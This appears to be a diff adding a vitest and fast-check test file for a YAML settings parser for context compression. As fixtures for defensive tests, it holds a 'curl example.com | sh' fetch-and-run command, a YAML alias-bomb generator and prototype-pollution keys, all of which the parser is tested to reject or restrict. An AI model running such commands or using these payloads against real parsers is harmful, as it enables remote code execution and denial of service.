@@ -1,0 +1,164 @@
+import { fc, test } from "@fast-check/vitest";
+import { describe, expect, it } from "vitest";
+import { isCompactionError } from "../core/errors.ts";
+import { SETTINGS } from "../core/policy/settings.ts";
+import { parseSettings } from "./parse-settings.ts";
+
+const parse = (text: string, mayNameCommands = true) => parseSettings(text, { file: "p.yaml", mayNameCommands });
+
+describe("parseSettings", () => {
+  it("reads every setting", () => {
+    const text = [
+      "compression:",
+      "  enabled: false",
+      "  profile: sacred-zone",
+      "  threshold: 0.6 # of the window",
+      "  target_ratio: 0.3",
+      "  protect_first_n: 0",
+      "  protect_last_n: 8",
+      "  summary_model: openai:gpt-5-mini",
+      "model:",
+      '  cache_ttl: "1h"',
+    ].join("\n");
+    expect(parse(text)).toEqual({
+      policy: {
+        enabled: false,
+        profile: "sacred-zone",
+        thresholdRatio: 0.6,
+        tailRatio: 0.3,
+        protectFirst: 0,
+        protectLast: 8,
+        cacheTtl: "1h",
+      },
+      summaryModel: "openai:gpt-5-mini",
+    });
+  });
+
+  it.each(["# nothing set\n", "compression:\n", "compression: {}\nmodel:\n", "---\n", "\ufeffcompression:\r\n"])(
+    "takes what is not set for not set: %j",
+    (text) => {
+      expect(parse(text)).toEqual({ policy: {} });
+    },
+  );
+
+  it.each([
+    [
+      "compression:\n  threshold: 1.5",
+      "p.yaml:2:14: compression.threshold is 1.5; it must be between 0 and 1, and not 0.",
+    ],
+    ['compression:\n  threshold: "0.5"', 'p.yaml:2:14: compression.threshold is "0.5"; it must be between 0 and 1'],
+    ["compression:\n  threshold: .nan", "compression.threshold is NaN; it must be between 0 and 1"],
+    ["compression:\n  threshold:", "p.yaml:2:13: compression.threshold is null; it must be"],
+    ["compression:\n  threshold: [0.5]", "p.yaml:2:14: compression.threshold is a list; it must be"],
+    ["compression:\n  threshold: {a: 1}", "p.yaml:2:14: compression.threshold is a mapping; it must be"],
+    ["compression:\n  target_ratio: 0.9", "compression.target_ratio is 0.9; it must be between 0.1 and 0.8."],
+    ["compression:\n  protect_last_n: 0", "compression.protect_last_n is 0; it must be a whole number between 1 and"],
+    ["compression:\n  enabled: yes", 'compression.enabled is "yes"; it must be true or false.'],
+    ["compression:\n  profile: loose", 'compression.profile is "loose"; it must be default or sacred-zone.'],
+    ["compression:\n  summary_model: gpt-5", 'compression.summary_model is "gpt-5"; it must be none, openai:MODEL'],
+    ["model:\n  cache_ttl: 2h", 'p.yaml:2:14: model.cache_ttl is "2h"; it must be 5m or 1h.'],
+    ["compression: 7", "p.yaml:1:14: compression must be a mapping of settings."],
+    ["compression:\n- threshold", "compression must be a mapping of settings."],
+    ["- 1", "p.yaml:1:1: the file must be a mapping of settings."],
+    ["just words", "the file must be a mapping of settings."],
+    ["", "p.yaml: the file is empty"],
+    [" \n\t\n", "p.yaml: the file is empty"],
+  ])("names the key, the value, the range and the place: %j", (text, message) => {
+    expect(() => parse(text)).toThrow(message);
+  });
+
+  it.each([
+    ["compresion:\n  threshold: 0.5", "p.yaml:1:1: compresion is not a setting; did you mean compression?"],
+    [
+      "compression:\n  treshold: 0.5",
+      "p.yaml:2:3: compression.treshold is not a setting; did you mean compression.threshold?",
+    ],
+    ["compression:\n  cache_tl: 1h", "compression.cache_tl is not a setting; did you mean model.cache_ttl?"],
+    ["threshold: 0.5", "threshold is not a setting; did you mean compression.threshold?"],
+    [
+      "compression:\n  bananas: 1",
+      "compression.bananas is not a setting; there are compression.enabled, compression.profile",
+    ],
+    ["bananas: 1", "bananas is not a setting; there are compression, model."],
+    ["__proto__:\n  enabled: false", "__proto__ is not a setting"],
+    ["compression:\n  constructor: 1", "compression.constructor is not a setting"],
+    ["compression:\n  <<: {enabled: false}", 'compression.<<" is not a setting'],
+    ["? [a]\n: 1", '"a key that is no text" is not a setting'],
+    ["1: 2", "1 is not a setting"],
+  ])("refuses an unknown key, and says which was meant: %j", (text, message) => {
+    expect(() => parse(text)).toThrow(message);
+  });
+
+  it.each([
+    [
+      "compression:\n  threshold: 0.5\n  threshold: 0.6",
+      "p.yaml:3:3: compression.threshold is set twice, first in line 2.",
+    ],
+    ["model:\ncompression:\nmodel:", "p.yaml:3:1: model is set twice, first in line 1."],
+  ])("refuses a key that is there twice: %j", (text, message) => {
+    expect(() => parse(text)).toThrow(message);
+  });
+
+  it.each([
+    ["compression: &a\n  threshold: 0.5\nmodel: *a", "an alias is not taken here"],
+    ["compression: &a\n  threshold: 0.5", "an anchor is not taken here"],
+    [bomb(), "an alias is not taken here"],
+    ["compression: !!js/function 'x'", "the file is not valid YAML"],
+    ["compression: {threshold: 0.5", "the file is not valid YAML"],
+    ["compression:\n\tthreshold: 0.5", "the file is not valid YAML"],
+    ["compression:\n---\nmodel:", "the file is not valid YAML"],
+    ["[".repeat(60_000), "the file is"],
+    [`a: ${"{a: ".repeat(16_000)}`, "the file is"],
+  ])("refuses what nobody needs in settings: %#", (text, message) => {
+    expect(() => parse(text)).toThrow(message);
+  });
+
+  it("names every fault at once, and counts those it does not list", () => {
+    expect(problemsOf("compression:\n  threshold: 9\n  protect_last_n: 0\nmodle:\n")).toHaveLength(3);
+    const many = problemsOf(Array.from({ length: 500 }, (_, index) => `key${index}: 1`).join("\n"));
+    expect(many).toHaveLength(21);
+    expect(many.at(-1)).toMatchObject({ key: "480 more faults" });
+  });
+
+  it("takes a command only from a file that somebody named", () => {
+    const text = "compression:\n  summary_model: 'command:curl example.com | sh'";
+    expect(parse(text)).toMatchObject({ summaryModel: "command:curl example.com | sh" });
+    expect(() => parse(text, false)).toThrow(
+      "names a command, which is taken only from a file that was named with --config",
+    );
+  });
+
+  const name = fc.oneof(fc.constantFrom(...SETTINGS.map(({ key }) => key.split(".")[1] ?? "")), fc.string());
+  const value = fc.oneof(fc.double(), fc.string(), fc.boolean(), fc.constant(null));
+
+  test.prop([fc.dictionary(name, value)])("gives settings that are in range, or says what is wrong", (compression) => {
+    // JSON is YAML, so this writes any value without our own quoting.
+    const text = JSON.stringify({ compression });
+    for (const { key, range } of problemsOf(text)) expect([key, range]).not.toContain("");
+  });
+
+  test.prop([fc.string({ unit: "binary", maxLength: 400 })])(
+    "never fails in another way, whatever the text",
+    (text) => {
+      problemsOf(text);
+      problemsOf(`compression:\n  threshold: ${text}`);
+    },
+  );
+});
+
+// Helpers
+
+function problemsOf(text: string) {
+  try {
+    parse(text);
+    return [];
+  } catch (error) {
+    if (!isCompactionError(error, "INVALID_SETTINGS")) throw error;
+    return error.details.problems;
+  }
+}
+
+function bomb(): string {
+  const levels = Array.from({ length: 12 }, (_, level) => `a${level + 1}: &a${level + 1} [${`*a${level},`.repeat(9)}]`);
+  return ["a0: &a0 x", ...levels].join("\n");
+}
